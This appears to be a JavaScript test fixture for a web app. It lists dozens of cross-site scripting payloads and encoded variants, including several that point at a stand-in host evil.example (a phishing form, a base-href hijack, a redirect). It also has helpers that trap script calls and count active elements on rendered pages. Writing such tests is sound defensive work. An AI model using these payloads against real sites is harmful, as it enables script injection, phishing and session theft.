//! What people with bad intentions would write: scripts in every wrapping, and the big list of naughty strings. And what a page looks like
//! to whoever searches it for what does not belong there.

import { createRequire } from "node:module";

const run = "window.broken=1";

/** Each would set `window.broken`, were it ever taken for anything but text. */
export const SCRIPTS = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe src="javascript:parent.broken=1"></iframe>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<style>@import 'https://evil.example/x.css';*{display:none!important}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example><button>Sign in</button></form>`,
  `<object data="https://evil.example/x"></object><embed src="https://evil.example/x">`,
  `<template><img src=x onerror=${run}></template>`,
  `</textarea></div></li><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `{{constructor.constructor('${run}')()}}`,
  "${" + run + "}",
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>opener.broken=1</script>`,
  `vbscript:${run}`,
  `[click](javascript:${run})`,
  `http://javascript:${run}@evil.example/`,
  `https://bank.example@evil.example/`,
  `https://evil.example/"onmouseover="${run}`,
  `https://evil.example/'><img src=x onerror=${run}>`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
];

/** The big list of naughty strings, some to a text: what can stand in one row does. */
export function naughty(perText = 8) {
  const list = createRequire(import.meta.url)("big-list-of-naughty-strings").filter((text) => text.trim());
  const texts = [];
  for (let at = 0; at < list.length; at += perText) texts.push(list.slice(at, at + perText).join(" ⏎ "));
  return texts;
}

/** Runs before every page's own scripts: whatever a payload calls is noted. */
export function trap() {
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    window[name] = () => {
      window.broken = name;
    };
  }
}

/** What is in a page, inside every shadow root too: how many of what could do something, and every handler and address. */
export function census(page) {
  return page.evaluate(() => {
    const ACTIVE = "script iframe frame object embed style link base meta form input video audio source math template marquee img animate".split(" ");
    const found = { broken: window.broken ?? null, counts: {}, handlers: [], addresses: [], links: 0, pictures: [] };
    for (const tag of ACTIVE) found.counts[tag] = 0;
    const look = (root) => {
      for (const element of root.querySelectorAll("*")) {
        const tag = element.localName;
        const isFace = tag === "img" && element.closest(".glx-avatar");
        if (tag in found.counts && !isFace) found.counts[tag] += 1;
        for (const { name, value } of element.attributes) {
          if (/^on/i.test(name)) found.handlers.push(`${tag} ${name}`);
          if (["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(name)) {
            if (tag === "a") found.links += 1;
            if (tag === "img" && new URL(element.src).origin !== location.origin) found.pictures.push(element.src);
            const { protocol } = new URL(value, location.href);
            if (!["http:", "https:", "mailto:"].includes(protocol)) found.addresses.push(`${tag} ${name}=${value}`);
            const isOurs = new URL(value, location.href).origin === location.origin;
            if (tag === "a" && !isOurs && (element.rel !== "noopener noreferrer nofollow ugc" || element.target !== "_blank")) {
              found.addresses.push(`${value} opens as rel=${element.rel} target=${element.target}`);
            }
          }
        }
        if (element.shadowRoot) look(element.shadowRoot);
      }
    };
    look(document);
    return found;
  });
}
